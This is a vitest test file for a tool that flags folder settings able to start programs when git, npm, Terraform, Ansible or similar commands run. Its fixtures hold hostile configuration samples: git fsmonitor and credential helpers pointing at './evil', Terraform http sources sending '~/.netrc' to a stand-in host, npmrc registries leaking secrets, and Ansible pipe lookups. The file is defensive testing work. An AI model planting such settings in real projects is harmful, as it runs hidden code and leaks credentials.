import { execFile } from 'node:child_process';
import { mkdir, mkdtemp, rm, symlink, writeFile } from 'node:fs/promises';
import { tmpdir } from 'node:os';
import { dirname, join } from 'node:path';
import { promisify } from 'node:util';
import { afterEach, describe, expect, test } from 'vitest';
import { settingsFiles } from '../../src/processes/settingsFiles.ts';
import { confirmationFor } from '../../src/run/confirmation.ts';
import { withFolderSettings } from '../../src/run/folderSettings.ts';
import { allBlocks } from '../../src/run/plan.ts';
import { prepare, type PreparedCommand } from '../../src/run/prepare.ts';
import { parseRunbook } from '../../src/runbook/parse.ts';

const folders: string[] = [];
afterEach(async () => {
  for (const folder of folders.splice(0)) await rm(folder, { recursive: true, force: true });
});

async function workspace(files: Readonly<Record<string, string>>): Promise<string> {
  const folder = await mkdtemp(join(tmpdir(), 'breakwater-settings-'));
  folders.push(folder);
  for (const [name, text] of Object.entries(files)) {
    await mkdir(dirname(join(folder, name)), { recursive: true });
    await writeFile(join(folder, name), text);
  }
  return folder;
}

async function judged(cwd: string, command: string): Promise<PreparedCommand> {
  const runbook = parseRunbook(`# Book\n\n## One\n\n\`\`\`sh\n${command}\n\`\`\`\n`);
  const found = prepare(runbook, allBlocks(runbook)[0]!, new Map(), { cwd, home: cwd });
  if ('refusal' in found) throw new Error(found.refusal);
  return withFolderSettings(found, settingsFiles);
}

const HEAD = { '.git/HEAD': 'ref: refs/heads/main\n' };

describe('settings of git that start programs are named, and asked about', () => {
  test.each([
    ['[core]\n\tfsmonitor = ./evil\n', 'core.fsmonitor'],
    ['[CORE]FSMonitor=./evil', 'core.fsmonitor'],
    ['[core]\n sshCommand = "./e" # x\n', 'core.sshcommand'],
    ['[core]\n hooksPath = ./hooks\n', 'core.hookspath'],
    ['[core]\n pager = ./evil\n', 'core.pager'],
    ['[diff]\n external = ./evil\n', 'diff.external'],
    ['[diff "x"]\n textconv = ./evil\n', 'diff.x.textconv'],
    ['[filter "x"]\n clean = ./evil\n', 'filter.x.clean'],
    ['[alias]\n st = !./evil\n', 'alias.st'],
    ['[credential "https://h"]\n helper = !./evil\n', 'credential.https://h.helper'],
    ['[credential]\n helper = \\\n./evil\n', 'credential.helper'],
    ['[gpg]\n program = ./evil\n', 'gpg.program'],
    ['[pager]\n log = ./evil\n', 'pager.log'],
    ['[remote "o"]\n uploadpack = ./evil\n', 'remote.o.uploadpack'],
    ['[filter "lfs"]\n clean = "git-lfs clean; ./evil"\n', 'filter.lfs.clean'],
  ])('%j', async (config, key) => {
    const cwd = await workspace({ ...HEAD, '.git/config': config });
    const { risk, concerns } = await judged(cwd, 'git status');
    expect([risk, concerns.length]).toEqual(['unknown', 1]);
    expect(concerns[0]).toContain(`\`${key}\``);
    expect(confirmationFor({ risk, attributes: {}, concerns }, {}).kind).toBe('typed');
  });

  test.each([
    '[core]\n repositoryformatversion = 0\n fsmonitor = true\n bare = false\n pager = less -R\n',
    '[user]\n name = core.fsmonitor\n',
    '# [core]\n; fsmonitor = ./evil\n[color]\n fsmonitor = ./x\n',
    '[filter "lfs"]\n clean = git-lfs clean -- %f\n process = git-lfs filter-process\n',
    '[alias]\n st = status -sb\n',
    '[credential]\n helper = osxkeychain\n',
    '[remote "origin"]\n url = git@github.com:a/b.git\n fetch = +refs/heads/*:refs/remotes/origin/*\n',
  ])('look-alike: %j', async (config) => {
    const cwd = await workspace({ ...HEAD, '.git/config': config });
    const { risk, concerns } = await judged(cwd, 'git status');
    expect([risk, concerns]).toEqual(['reads', []]);
  });

  const evil = '[core]\n fsmonitor = ./evil\n';
  test.each([
    ['an include', { ...HEAD, '.git/config': '[include]\n path = ../x\n', x: evil }],
    ['a conditional include', { ...HEAD, '.git/config': '[includeIf "gitdir:/"]\n path = ../x\n', x: evil }],
    ['a repository elsewhere', { '.git': 'gitdir: other\n', 'other/config': evil }],
    ['a worktree', { '.git': 'gitdir: w\n', 'w/commondir': '../main\n', 'main/config': evil }],
    ['settings of a worktree', { ...HEAD, '.git/config.worktree': evil }],
    ['the inside of a repository', { HEAD: 'x', 'objects/a': '', config: evil }],
    ['a submodule', { ...HEAD, '.gitmodules': '[submodule "s"]\n path = s\n', 's/.git/config': evil }],
    ['a hook', { ...HEAD, '.git/hooks/post-index-change': '#!/bin/sh\n' }],
    ['more than is read', { ...HEAD, '.git/config': `#${'x'.repeat(1_100_000)}\n${evil}` }],
  ])('%s', async (_, files) => {
    expect((await judged(await workspace(files as Record<string, string>), 'git diff')).risk).toBe('unknown');
  });

  test('a link is not followed, and a folder inside of a repository belongs to it', async () => {
    const cwd = await workspace({ ...HEAD, elsewhere: '[user]\n name = a\n', 'sub/file': '' });
    await symlink('../elsewhere', join(cwd, '.git/config'));
    expect((await judged(cwd, 'git log')).risk).toBe('unknown');
    expect((await judged(join(cwd, 'sub'), 'git log')).risk).toBe('unknown');
  });

  test('whatever calls git is meant, and nothing else', async () => {
    const cwd = await workspace({ ...HEAD, '.git/config': evil });
    for (const command of ['sudo git log', "bash -c 'git log'", 'x=$(git log)', 'timeout 5 g"i"t log'])
      expect((await judged(cwd, command)).concerns, command).toHaveLength(1);
    for (const command of ['ls', 'kubectl get pods', 'cat digits'])
      expect((await judged(cwd, command)).concerns, command).toEqual([]);
  });
});

test.each([
  ['npm ls', '.npmrc', 'script-shell=./evil', 'script-shell'],
  ['yarn list', '.yarnrc.yml', 'yarnPath: ./evil.cjs', 'yarnPath'],
  ['hg status', '.hg/hgrc', '[hooks]\npre-status = ./evil', '[hooks]'],
  ['curl -s http://h/ | python3 -m json.tool', 'json.py', 'evil()', 'json.py'],
])('what %s reads in the folder is named: %s', async (command, file, text, name) => {
  const { risk, concerns } = await judged(await workspace({ [file]: text }), command);
  expect(risk).toBe('unknown');
  expect(concerns.join()).toContain(`\`${name}\``);
});

test.each([
  ['pnpm ls', 'pnpm-workspace.yaml', 'pnpmfile: ./x.cjs\n'],
  ['pnpm ls', 'pnpm-workspace.yaml', 'packages: [a]\nconfigDependencies:\n  x: "1"\n'],
  ["python3 -c 'import json; print(1)'", 'json.pyc', 'x'],
  ["python3 -c 'import json; print(1)'", 'json/__init__.pyc', 'x'],
  ['echo {} | python3 -m json.tool', 'json/__init__.cpython-311-x86_64-linux-gnu.so', 'x'],
  ['python3 --version', 'this.cpython-311-x86_64-linux-gnu.so', 'x'],
  ['bazel --version', 'tools/bazel', '#!/bin/sh\n'],
  ['ansible-playbook p.yml --list-tasks', 'playbooks/p.yml', "- hosts: \"{{ query('ansible.builtin.pipe', 'x') }}\"\n"],
  ['cargo audit', '.cargo/config', '[alias]\naudit = "run"\n'],
  ['cargo --version', 'rust-toolchain', '[toolchain]\npath = "./evil"\n'],
  ['trivy fs .', 'trivy.yaml', 'output: /tmp/x\n'],
  ['syft dir:.', '.syft.yaml', 'output:\n  - json=/tmp/x\n'],
  ['grype dir:.', '.grype.yaml', 'file: /tmp/x\n'],
  ['yarn --version', '.corepack.env', 'COREPACK_NPM_REGISTRY=https://r\n'],
  ['ansible-playbook site.yml --list-tasks', 'site.yml', "- hosts: \"{{ lookup('pipe', './x') }}\"\n"],
])('%s is asked about for %s', async (command, file, text) => {
  const cwd = await workspace({ [file]: text });
  expect((await judged(cwd, command)).concerns).toHaveLength(1);
});

const PINNED = '{"packageManager": "pnpm@9.1.0"}';

test.each([
  ['cargo audit', { '.cargo/config': '[alias]\naudit = "run"\n' }],
  ['cargo audit', { '.cargo/config.toml': 'alias.audit = "run"\n' }],
  ['cargo metadata --locked', { 'rust-toolchain': '[toolchain]\npath = "./t"\n' }],
  ['trivy fs .', { 'trivy.yaml': 'output: /tmp/x\n' }],
  ['syft x', { '.syft.yaml': 'output: json=/tmp/x\n' }],
  ['grype x', { '.grype.yaml': 'file: /tmp/x\n' }],
  ['checkov -d .', { '.checkov.yaml': 'external-checks-dir: [checks]\n' }],
  ['cfn-lint t.yaml', { '.cfnlintrc': 'append_rules:\n  - ./rules\n' }],
  ['cfn-lint -t t.yaml', { '.cfnlintrc.yaml': '{"regions": ["eu-west-1"], "append_rules": ["./rules"]}\n' }],
  ['jsonlint a.json', { '.jsonlintrc.cjs': 'module.exports = {}\n' }],
  ['pnpm ls', { '.npmrc': 'registry=https://r/\n', 'package.json': PINNED }],
  ['yarn --version', { '.npmrc': 'registry = https://r/\n', 'package.json': '{ "packageManager" : "yarn@4.0.0" }' }],
  ['pnpm why x', { '.npmrc': '@pnpm:registry=https://r/\n', 'package.json': '{"devEngines":{}}' }],
])('%s is asked about for %j', async (command, files) => {
  expect((await judged(await workspace(files as Record<string, string>), command)).concerns).toHaveLength(1);
});

test.each([
  ['cargo metadata --locked', { '.cargo/config': '[net]\nretry = 2\n' }],
  ['trivy fs .', { 'trivy.yaml': 'severity: [HIGH]\n' }],
  ['syft x', { '.syft.yaml': 'exclude: [a]\n' }],
  ['cfn-lint t.yaml', { '.cfnlintrc': '# append_rules: [x]\nignore_checks:\n  - E3012\n' }],
  ['jsonlint a.json', { '.jsonlintrc': '{"mode": "json5"}\n' }],
  ['pnpm ls', { '.npmrc': 'registry=https://r/\n', 'package.json': '{"name":"a"}' }],
  ['pnpm ls', { '.npmrc': 'registry=https://registry.npmjs.org/\n', 'package.json': PINNED }],
  ['npm ls', { '.npmrc': 'registry=https://r/\n', 'package.json': PINNED }],
])('look-alike: %s with %j', async (command, files) => {
  expect((await judged(await workspace(files as Record<string, string>), command)).concerns).toEqual([]);
});

test('look-alikes: files of the same names that start nothing', async () => {
  const cwd = await workspace({
    'pnpm-workspace.yaml': 'packages: [a]\n',
    'site.yml': '- hosts: web\n  roles: [a]\n',
    '.cargo/config': '[build]\ntarget-dir = "target"\n',
    'trivy.yaml': 'severity: [HIGH]\n',
  });
  for (const command of ['pnpm ls', 'ansible-playbook site.yml --list-tasks', 'cargo tree', 'trivy fs .'])
    expect((await judged(cwd, command)).concerns, command).toEqual([]);
});

test('look-alikes: ordinary settings of the folder', async () => {
  const cwd = await workspace({ '.npmrc': 'registry=https://r/\nsave-exact=true\n', 'tool.py': '' });
  for (const command of ['npm ls', 'echo {} | python3 -m json.tool'])
    expect((await judged(cwd, command)).concerns, command).toEqual([]);
});

const run = promisify(execFile);

describe('repositories within a repository, as `git add` takes them', () => {
  const git = (folder: string, ...args: string[]) =>
    run('git', ['-c', 'user.name=a', '-c', 'user.email=a@b', '-c', 'init.defaultBranch=main', '-C', folder, ...args]);
  const nested = async (version: string, config: readonly string[], format = 'sha1'): Promise<string> => {
    const folder = await workspace({ 'a.txt': 'a', 'deep/sub/b.txt': 'b', 'z.txt': 'z' });
    const sub = join(folder, 'deep/sub');
    for (const at of [folder, sub]) await git(at, 'init', '-q', `--object-format=${format}`);
    await git(sub, 'add', '.');
    await git(sub, 'commit', '-qm', 'b');
    await git(folder, 'config', 'index.version', version);
    await git(folder, 'add', '.');
    if (config.length > 0) await git(sub, 'config', ...config);
    return folder;
  };

  test.each(['2', '3', '4'])('are read too, with an index of version %s', async (version) => {
    const folder = await nested(version, ['core.fsmonitor', './evil']);
    const found = await judged(folder, 'git status -s');
    expect(found.risk).toBe('unknown');
    expect(found.concerns.join()).toContain('deep/sub/.git/config');
  });

  test('are no reason to ask where they start nothing', async () => {
    expect((await judged(await nested('2', []), 'git status')).risk).toBe('reads');
  });

  test('are asked about where objects have longer names', async () => {
    expect((await judged(await nested('2', [], 'sha256'), 'git status')).risk).toBe('unknown');
  });

  test('are asked about where the index cannot be read', async () => {
    const folder = await workspace({ ...HEAD, '.git/config': '', '.git/index': 'DIRC nothing' });
    expect((await judged(folder, 'git status')).risk).toBe('unknown');
  });
});

describe('what Terraform would start by the files of a folder is asked about', () => {
  test.each([
    ['main.tf', 'data "external" "x" {\n  program = ["./evil"]\n}\n', 'terraform plan'],
    [
      'other.tf',
      'resource "null_resource" "x" {\n  provisioner "local-exec" {\n    command = "x"\n  }\n}\n',
      'tofu plan',
    ],
    ['x.tf.json', '{"data": {"external": {"x": {"program": ["./evil"]}}}}', 'terraform plan'],
    ['terragrunt.hcl', 'inputs = { a = run_cmd("./evil") }\n', 'terragrunt plan'],
  ])('%s', async (file, text, command) => {
    const { risk, concerns } = await judged(await workspace({ [file]: text }), command);
    expect([risk, concerns.length]).toEqual(['unknown', 1]);
  });

  test.each([
    ['main.tf', 'resource "aws_instance" "external" {\n  ami = "a"\n}\n', 'terraform plan'],
    ['main.tf', 'data "aws_ami" "x" {}\n', 'terraform plan'],
    ['notes.md', 'data "external" "x" {}\n', 'terraform plan'],
    ['main.tf', 'data "external" "x" {}\n', 'kubectl get pods'],
  ])('not %s with %j', async (file, text, command) => {
    const { risk, concerns } = await judged(await workspace({ [file]: text }), command);
    expect([risk, concerns]).toEqual(['reads', []]);
  });
});

describe('modules, providers and other folders of Terraform', () => {
  const evil = 'data "external" "x" {\n  program = ["./evil"]\n}\n';
  const uses = (source: string): string => `module "m" {\n  source = "${source}"\n}\n`;
  test.each<readonly [string, Readonly<Record<string, string>>, string]>([
    ['a module', { 'main.tf': uses('./m'), 'm/main.tf': evil }, 'terraform plan'],
    ['a module of a module', { 'main.tf': uses('./a'), 'a/x.tf': uses('../b'), 'b/x.tf': evil }, 'terraform plan'],
    ['another folder', { 'infra/main.tf': evil }, 'terraform -chdir=infra plan'],
    ['a module of another folder', { 'infra/a.tf': uses('./m'), 'infra/m/a.tf': evil }, 'tofu -chdir=infra plan'],
    [
      'a downloaded module',
      {
        'main.tf': uses('x/y/z'),
        '.terraform/modules/modules.json': '{"Modules":[{"Key":"m","Dir":".terraform/modules/m"}]}',
        '.terraform/modules/m/main.tf': evil,
      },
      'terraform plan',
    ],
    ['a provider', { 'main.tf': '', '.terraform/providers/h/n/t/1/linux_amd64/p': '' }, 'terraform state list'],
  ])('%s', async (_, files, command) => {
    const { risk, concerns } = await judged(await workspace(files), command);
    expect([risk, concerns.length]).toEqual(['unknown', 1]);
  });

  test.each<readonly [string, Readonly<Record<string, string>>, string]>([
    ['modules in a circle', { 'main.tf': uses('./a'), 'a/x.tf': uses('../') }, 'terraform plan'],
    ['a folder that is not read', { 'main.tf': uses('./m'), 'other/main.tf': evil }, 'terraform plan'],
    ['a provider that is not started', { '.terraform/providers/p': '' }, 'terraform version'],
  ])('not %s', async (_, files, command) => {
    const { risk, concerns } = await judged(await workspace(files), command);
    expect([risk, concerns]).toEqual(['reads', []]);
  });
});

describe('whatever of Terraform is started or called while it plans', () => {
  const many = Object.fromEntries(Array.from({ length: 600 }, (_, i) => [`a${i}.tf`, '']));
  const external = 'data "external" "x" {\n  program = ["./evil"]\n}\n';
  const starts = async (files: Readonly<Record<string, string>>, command = 'terraform plan'): Promise<boolean> =>
    (await judged(await workspace(files), command)).risk === 'unknown';

  test.each([
    'data "shell_script" "x" {\n  lifecycle_commands {\n    read = "touch x"\n  }\n}\n',
    'data "local_command" "x" {\n  command = "touch"\n}\n',
    'data "aws_lambda_invocation" "x" {\n  function_name = "f"\n}\n',
    'ephemeral "aws_lambda_invocation" "x" {\n  function_name = "f"\n}\n',
    'data "archive_file" "x" {\n  output_path = "/etc/x"\n}\n',
    'data "http" "x" {\n  url = "https://a.example"\n  method = "POST"\n}\n',
    'data "http" "x" {\n  url = "https://a.example/${file("~/.netrc")}"\n}\n',
    'data "http" "x" {\n  method = "POST"\n  request_headers = {\n    url = "x"\n  }\n}\n',
    'data external x {\n}\n',
    'data /* a */ "external" /* b */ "x" {\n}\n',
    'data # a\n"external" "x" {\n}\n',
    'data"external""x"{}\n',
    'data "\\u0065xternal" "x" {}\n',
    'provider "helm" {\n  kubernetes = {\n    exec = {\n      command = "./x"\n    }\n  }\n}\n',
    'provider "kubernetes" {\n  exec {\n    command = "./x"\n  }\n}\n',
    'provider "aws" {\n  shared_config_files = ["./cfg"]\n}\n',
    'provider "aws" {\n  shared_config_files = [\n    "~/.aws/config",\n    "./cfg",\n  ]\n}\n',
    'provider "kubernetes" {\n  config_path = "${path.module}/k"\n}\n',
  ])('%j', async (text) => {
    expect(await starts({ 'main.tf': text })).toBe(true);
  });

  test.each([
    'data "aws_ami" "x" {}\n\ndata "aws_caller_identity" "me" {}\n',
    'data "http" "ip" {\n  url = "https://checkip.example" # ours\n}\n',
    '# data "external" "x" {}\n/* data external x { */\n',
    'resource "x" "y" {\n  description = "data external"\n  url = "https://a.example/*/b"\n}\n',
    'provider "aws" {\n  shared_config_files = ["~/.aws/config"]\n}\n',
    'provider "kubernetes" {\n  config_path = "~/.kube/config"\n}\n',
    'variable "database" {\n  default = {}\n}\nlocals {\n  metadata = { a = 1 }\n  execution = {}\n}\n',
  ])('not %j', async (text) => {
    expect(await starts({ 'main.tf': text })).toBe(false);
  });

  test('behind many other files, and where modules are brought to', async () => {
    expect(await starts({ ...many, 'zz.tf': external })).toBe(true);
    expect(await starts(many)).toBe(false);
    expect(await starts({ 'main.tf': '', '.terraform/modules/m/main.tf': external })).toBe(true);
    expect(await starts({ 'main.tf': '', '.terraform/modules/m/sub/in/x.tf': external })).toBe(true);
    expect(await starts({ 'main.tf': '', '.terraform/modules/m/main.tf': 'data "aws_ami" "x" {}\n' })).toBe(false);
    expect(await starts({ 'main.tf.json': '{"data":[{"ext\\u0065rnal":{"x":{}}}]}' })).toBe(true);
    expect(await starts({ 'main.tf.json': '{"data":{"aws_ami":{"x":{}}}}' })).toBe(false);
  });

  test.each(['tofu plan', 'tofu show', 'tofu output', 'tofu state list'])('the key of a state: %s', async (command) => {
    const key = (kind: string, what = 'key_provider'): Readonly<Record<string, string>> => ({
      'main.tf': `terraform {\n  encryption {\n    ${what} "${kind}" "x" {\n      command = ["./x"]\n    }\n  }\n}\n`,
    });
    expect(await starts(key('external'), command)).toBe(true);
    expect(await starts(key('external', 'method'), command)).toBe(true);
    expect(
      await starts({ 'x.tofu.json': '{"terraform":{"encryption":{"key_provider":{"external":{"x":{}}}}}}' }, command),
    ).toBe(true);
    expect(await starts(key('pbkdf2'), command)).toBe(false);
  });
});

describe('a registry that a folder names is not asked unasked', () => {
  test.each([
    ['.npmrc', 'registry=http://h.example/${MY_SECRET}/\n', 'npm view left-pad'],
    ['.npmrc', '//h.example/:_authToken=${MY_SECRET}\n', 'npm ping'],
    ['.npmrc', '@a:registry=https://h.example/\n', 'npm outdated'],
    ['.npmrc', 'registry = "https://registry.npmjs.org.h.example/"\n', 'npm search foo'],
    ['.npmrc', 'user-agent=${MY_SECRET}\n', 'pnpm view left-pad'],
    ['.npmrc', 'https-proxy=http://h.example\n', 'npm view left-pad'],
    ['.npmrc', 'logs-dir=/home/u/x\n', 'npm ls'],
    ['.npmrc', 'cache=../../x\n', 'npm root'],
    ['.yarnrc.yml', 'npmRegistryServer: "https://h.example/${X}"\n', 'yarn npm info left-pad'],
    ['.yarnrc', 'registry "https://h.example"\n', 'yarn info left-pad'],
  ])('%s with %j: %s', async (file, text, command) => {
    expect((await judged(await workspace({ [file]: text }), command)).risk).toBe('unknown');
  });

  test.each([
    ['.npmrc', 'registry=https://registry.npmjs.org/\nsave-exact=true\n', 'npm view left-pad'],
    ['.npmrc', '//registry.npmjs.org/:_authToken=${NPM_TOKEN}\n', 'npm view left-pad'],
    ['.npmrc', '@a:registry=https://npm.pkg.github.com\n', 'npm outdated'],
    ['.npmrc', 'registry=https://h.example/\n', 'npm ls'],
    ['.npmrc', '# registry=https://h.example/${X}\n; ${X}\n', 'npm view left-pad'],
    ['.npmrc', 'cache=.npm\n', 'npm ls'],
  ])('not %s with %j: %s', async (file, text, command) => {
    expect((await judged(await workspace({ [file]: text }), command)).risk).toBe('reads');
  });
});

test('code of a site in a folder that the command names, but not of one elsewhere', async () => {
  const risk = async (files: Readonly<Record<string, string>>, command: string): Promise<string> =>
    (await judged(await workspace(files), command)).risk;
  for (const command of ['wp --path=site plugin list', 'wp plugin list --path="./site"'])
    expect(await risk({ 'site/wp-config.php': '' }, command), command).toBe('unknown');
  for (const command of ['drush status --root=site', 'drush -r site status', 'drush --root site status'])
    expect(await risk({ 'site/vendor/autoload.php': '' }, command), command).toBe('unknown');
  for (const command of ['wp --path=/var/www/html plugin list', 'wp --path=other plugin list'])
    expect(await risk({ 'site/wp-config.php': '' }, command), command).toBe('reads');
});

describe('inventories and encrypted files that a command names', () => {
  test.each<readonly [string, Readonly<Record<string, string>>]>([
    ['ansible -i hosts all -m setup', { hosts: 'a ansible_connection=local ansible_python_interpreter=./x\n' }],
    ['ansible all -i ./hosts -m ping', { hosts: 'a ansible_ssh_common_args="-o ProxyCommand=./x"\n' }],
    ['ansible -ihosts all -m ping', { hosts: 'a ansible_ssh_executable=./x\n' }],
    ['ansible --inventory=hosts all -m debug', { hosts: "a x=\"{{ lookup('pipe','touch y') }}\"\n" }],
    ['ansible -i hosts all -m debug', { hosts: "a x=\"{{ lookup('pi' ~ 'pe','touch y') }}\"\n" }],
    ['ansible -i inv all -m ping', { 'inv/prod.yml': 'all:\n  vars:\n    ansible_become_exe: ./x\n' }],
    [
      'ansible -i inv/hosts all -m ping',
      { 'inv/hosts': 'a\n', 'inv/group_vars/all/x.yml': 'ansible_python_interpreter: ./x\n' },
    ],
    ['ansible -i hosts all -m ping', { hosts: '#!/bin/sh\ntouch y\n' }],
    ['sops -d f.yaml', { 'f.yaml': 'a: ENC[x]\nsops:\n  hc_vault:\n    - vault_address: http://h.example\n' }],
    ['sops -d f.json', { 'f.json': '{"sops":{"hc_vault":[{"vault_address":"http://h.example"}]}}' }],
    [
      'sops --decrypt f.yaml',
      { 'f.yaml': 'sops:\n    hc_vault:\n        - engine_path: x\n          vault_address: http://h\n' },
    ],
  ])('%s', async (command, files) => {
    expect((await judged(await workspace(files), command)).risk).toBe('unknown');
  });

  test.each<readonly [string, Readonly<Record<string, string>>]>([
    ['ansible -i hosts all -m ping', { hosts: '[web]\na ansible_host=10.0.0.1 ansible_user=ops\n' }],
    ['ansible -i hosts all -m ping', { hosts: 'a ansible_python_interpreter=/usr/bin/python3 ansible_port=22\n' }],
    ['ansible -i hosts all -m ping', { hosts: "a ansible_ssh_common_args='-o StrictHostKeyChecking=no'\n" }],
    ['ansible -i hosts all -m ping', { hosts: "a k=\"{{ lookup('env', 'HOME') }}\"\n" }],
    ['ansible -i hosts all -m ping', { hosts: 'a\n', other: 'a ansible_python_interpreter=./x\n' }],
    ['sops -d f.yaml', { 'f.yaml': 'a: ENC[x]\nsops:\n  kms: []\n  hc_vault: []\n' }],
  ])('not %s: %j', async (command, files) => {
    const { risk, concerns } = await judged(await workspace(files), command);
    expect([risk, concerns]).toEqual(['reads', []]);
  });
});

describe('code and settings in the folder that a reading program loads', () => {
  test.each([
    ['knife node list', '.chef/knife.rb'],
    ['knife status', '.chef/config.rb'],
    ['knife node list', 'config.rb'],
    ['supervisorctl status', 'supervisord.conf'],
    ['mvn --version', '.mvn/jvm.config'],
    ['sbt --version', '.jvmopts'],
    ['vagrant global-status', 'Vagrantfile'],
    ['rails --version', 'bin/rails'],
    ['bundle --version', '.bundle/config'],
    ['sudo supervisorctl status', 'etc/supervisord.conf'],
    ['monit status', 'monitrc'],
    ['wp plugin list', 'wp-cli.yml'],
    ['drush status', 'vendor/autoload.php'],
    ['ansible all -m ping', 'library/ping.py'],
  ])('%s: %s', async (command, file) => {
    const { risk, concerns } = await judged(await workspace({ [file]: '' }), command);
    expect([risk, concerns.length]).toEqual(['unknown', 1]);
  });

  test.each([
    ['knife node list', 'knife.md'],
    ['mvn --version', '.mvn/wrapper.txt'],
    ['vagrant global-status', 'Vagrant.md'],
    ['rails --version', 'bin/server'],
    ['supervisorctl status', 'conf/supervisord.conf'],
    ['kubectl get pods', '.chef/knife.rb'],
    ['packer validate .', 'main.pkr.hcl'],
  ])('look-alike: %s: %s', async (command, file) => {
    const { risk, concerns } = await judged(await workspace({ [file]: '' }), command);
    expect([risk, concerns]).toEqual(['reads', []]);
  });

  test.each([
    ['knife node list -c ./x.rb', 1],
    ['supervisorctl -c ./x.conf status', 1],
    ['salt-call -c . test.ping', 1],
    ['supervisorctl -c /etc/supervisor/supervisord.conf status', 0],
  ])('settings that are named: %s', async (command, count) => {
    expect((await judged(await workspace({}), command)).concerns).toHaveLength(count);
  });
});
